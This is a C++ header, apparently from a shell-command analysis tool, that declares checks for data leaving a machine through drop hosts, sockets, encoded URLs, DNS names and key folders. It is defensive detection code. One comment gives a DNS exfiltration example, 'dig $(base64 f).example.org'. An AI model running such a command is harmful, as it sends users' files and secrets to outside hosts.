#pragma once
// Data that leaves the machine: who takes it, and by which way.
#include <string>

#include "libcore/commands/sink.hpp"

namespace cmdai::commands {

/// Hosts that keep files for anybody without asking who, show what is sent to them, or hand it to a chat.
bool is_drop(const std::string& url);

/// An effect for what stands on standard input when the program sends it to `where` (a URL, or a host).
void judge_sent_input(Sink& sink, const std::string& where, const Argument* word = nullptr);

/// The same for a word that is sent as it stands.
void judge_sent_text(Sink& sink, const Argument& data, const std::string& where);

/// What is written into a socket.
void judge_socket_output(Sink& sink, const Value& data, const std::string& socket, resolve::Place place);

/// An address that carries encoded data in its name or query.
void judge_carried(Sink& sink, const Argument& address);

/// A name whose first labels are data: `dig $(base64 f).example.org`.
void judge_name_data(Sink& sink, const Argument& name);

/// A folder that by its name holds keys.
bool is_key_folder(const Value& path);

}  // namespace cmdai::commands
